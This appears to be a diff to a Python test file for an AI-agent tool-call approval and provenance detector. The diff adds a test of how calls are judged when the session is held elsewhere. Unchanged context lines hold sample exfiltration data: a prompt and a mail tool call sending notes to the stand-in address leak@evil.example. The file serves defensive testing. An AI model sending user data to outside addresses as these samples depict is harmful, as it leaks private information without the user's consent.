@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 from prometheus_client import generate_latest
 
-from streams.approvals import History
+from streams.approvals import History, Known
 from streams.approvals import judge as judge_request
 from streams.detectors import DetectorState, detect, provenance, replay
 from streams.detectors.provenance_state import ProvenanceLedger, Session
@@ -320,8 +320,8 @@ def _ask(tool_name: str, arguments: dict[str, Any], session: str = "s1") -> Appr
                                            "tool": {"name": tool_name, "arguments": arguments}})
 
 
-def _history(state: DetectorState) -> History:
-    return lambda agent, session: _ledger(state).get(provenance.session_key(agent, session))
+def _history(state: DetectorState, held: bool = True) -> History:
+    return lambda agent, session: Known(held, _ledger(state).get(provenance.session_key(agent, session)))
 
 
 def test_on_the_approval_path_provenance_holds_a_message_and_denies_a_payment() -> None:
@@ -376,3 +376,17 @@ def test_the_request_of_a_chat_or_agent_span_counts_as_the_users() -> None:
     for kind in ("completion", "agent_invoke"):
         said = ev(kind, AGENT, 0, session_id="s1", content={"prompt": "mail the notes to leak@evil.example"})
         assert fired([said, read("mail leak@evil.example"), call(MAIL, {"to": ["leak@evil.example"]})]) == [], kind
+
+
+def test_a_worker_that_does_not_hold_the_session_holds_a_traced_call_instead_of_allowing_it() -> None:
+    policy = scoped({"arguments": {}})
+    now = T0 + timedelta(minutes=1)
+    elsewhere = _history(DetectorState(), held=False)
+    mail = judge_request(_ask(MAIL, {"to": ["anyone@example.com"]}), "r-1", policy, now, history=elsewhere)
+    assert (mail.verdict, mail.rule) == (Verdict.approval_required, "provenance")
+    assert "cannot be judged here" in mail.reason
+    lookup = judge_request(_ask("directory.lookup_user", {"user": "bob"}), "r-2", policy, now, history=elsewhere)
+    assert lookup.verdict is Verdict.allow  # not a traced category: nothing to judge
+    off = scoped({"arguments": {}}, top={"rules": {"builtin": {"provenance": {"mode": "shadow"}}}})
+    assert judge_request(_ask(MAIL, {"to": ["x@example.com"]}), "r-3", off, now, history=elsewhere).verdict \
+        is Verdict.allow
